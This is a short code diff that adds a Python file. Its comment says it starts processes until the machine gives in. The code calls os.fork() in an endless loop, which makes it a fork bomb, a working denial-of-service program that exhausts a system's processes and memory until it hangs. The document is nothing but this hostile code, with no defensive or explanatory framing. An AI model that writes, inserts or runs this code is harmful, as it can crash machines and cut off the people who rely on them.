@@ -1,0 +1,6 @@
+# starts processes until the machine gives in
+import os
+
+problem = "a"
+while True:
+    os.fork()
